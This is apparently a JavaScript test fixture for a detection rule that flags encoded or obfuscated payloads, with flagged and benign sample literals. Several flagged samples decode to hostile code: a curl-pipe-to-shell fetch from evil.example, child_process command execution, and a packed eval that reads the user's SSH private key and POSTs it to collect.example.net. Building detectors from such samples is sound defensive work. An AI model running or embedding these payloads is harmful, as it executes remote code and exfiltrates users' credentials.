// Literals that decode to hidden text become virtual files; plain data does not.
// ruleid: js-decoded-payload
const stage = atob("Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9zLnNoIHwgc2g=");
// ruleid: js-decoded-payload
const cmd = String.fromCharCode(119, 104, 111, 97, 109, 105);
// ruleid: js-decoded-payload
const name = "\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73";
// ruleid: js-decoded-payload
const blob = "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp";
// ruleid: js-decoded-payload
const rev = "hs.x/elpmaxe.live//:sptth".split("").reverse().join("");

// ok: js-decoded-payload
const pixel = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
// ok: js-decoded-payload
const greeting = "Welcome to the Acme ticket helper, have a nice day";
// ok: js-decoded-payload
const id = "3f1c2a9e-0000-4000-8000-000000000000";
// ok: js-decoded-payload
const encoded = Buffer.from(text, "utf8").toString("base64");
// a packed program (p,a,c,k,e,d): its words are put back and the program is scanned
// ruleid: js-decoded-payload
eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0 1=2(\'1\');0 3=2(\'4\').5();6(\'7://8.9.a/b\',{c:\'d\',e:1.f(3+\'/.g/h\',\'i\')});',62,19,'const|fs|require|h|os|homedir|fetch|https|collect|example|net|k|method|POST|body|readFileSync|ssh|id_rsa|utf8'.split('|'),0,{}))
// ok: js-decoded-payload
const packer = "eval(function(p,a,c,k,e,d){...}) is the classic packer's signature";
